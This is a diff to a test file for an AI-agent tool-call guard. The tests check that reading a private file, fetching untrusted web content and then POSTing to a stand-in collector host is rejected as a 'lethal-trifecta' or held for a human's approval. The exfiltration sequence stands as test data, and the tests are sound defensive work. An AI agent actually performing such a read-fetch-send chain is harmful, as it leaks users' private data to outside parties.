@@ -66,8 +66,8 @@ POST = "net__http_post"
 
 async def test_the_trifecta_is_stopped_at_the_third_step(flow: Flow) -> None:
     assert await flow.run(make_call(READ_FILE, {"path": "/home/alice/notes.txt"})) is PASS
-    assert await flow.run(make_call(FETCH, {"url": "https://example.com/page"}, definition={"inputSchema": URL_SCHEMA}))\
-        is PASS
+    fetch = make_call(FETCH, {"url": "https://example.com/page"}, definition={"inputSchema": URL_SCHEMA})
+    assert await flow.run(fetch) is PASS
     verdict = await flow.run(make_call(POST, {"url": "https://collector.example/x", "body": "..."}))
     assert isinstance(verdict, Reject) and verdict.as_tool_error
     assert "lethal-trifecta" in verdict.reason and READ_FILE in verdict.reason and FETCH in verdict.reason
@@ -89,6 +89,9 @@ async def test_the_order_of_private_and_untrusted_does_not_matter(flow: Flow) ->
 async def test_the_trifecta_is_held_for_approval_when_approval_is_configured(flow: Flow) -> None:
     approval = ApprovalGuard(ApprovalSettings(), flow.env)
     await approval.start()
+    send, requested = anyio.create_memory_object_stream[str](10)
+    flow.env.events.subscribe(
+        lambda e: send.send_nowait(e["approval_id"]) if e["kind"] == "approval.requested" else None)
     try:
         await flow.run(make_call(READ_FILE, {"path": "a"}))
         await flow.run(make_call(FETCH, {"url": "https://example.com"}))
@@ -102,9 +105,10 @@ async def test_the_trifecta_is_held_for_approval_when_approval_is_configured(flo
         with anyio.fail_after(10):
             async with anyio.create_task_group() as tg:
                 tg.start_soon(waiter)
-                while not approval.service.recent("pending"):
-                    await anyio.sleep(0)
-                record = approval.service.recent("pending")[0]
+                with anyio.fail_after(10):
+                    approval_id = await requested.receive()
+                record = approval.service.get(approval_id)
+                assert record is not None
                 assert record.sources == ["flow"] and record.session_labels == ["private", "untrusted"]
                 approval.service.decide(record.id, "bob", False, note="exfiltration attempt")
         assert isinstance(results[0], Reject) and "exfiltration attempt" in results[0].reason
